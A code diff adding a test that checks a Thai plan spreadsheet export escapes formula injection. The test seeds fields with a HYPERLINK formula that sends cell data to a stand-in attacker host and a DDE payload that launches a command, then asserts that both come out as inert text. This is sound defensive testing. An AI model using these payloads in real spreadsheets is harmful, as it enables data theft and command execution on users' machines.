@@ -88,3 +88,18 @@ def test_the_export_has_the_shape_of_the_published_tables(personas, source):
     assert steps.startswith("1. ") and sheet.cell(row=3, column=7).value == "ก.พ. – มี.ค. ๖๖"
     assert sheet.cell(row=3, column=1).value.startswith("(3)")
     assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_every_column_of_the_export_is_written_as_text_not_a_formula(personas, source):
+    measure = source.measures.get(number=1)
+    measure.period_text = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    measure.owner_note = "+cmd|' /C calc'!A0"
+    measure.save()
+    response = personas.client_for(personas.clerk).get(
+        reverse("plan_export_xlsx", args=[personas.org.slug, source.pk])
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value]
+    assert cells and all(c.data_type != "f" for c in cells)
+    assert all(not str(c.value).startswith(("=", "+", "-", "@")) for c in cells)
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
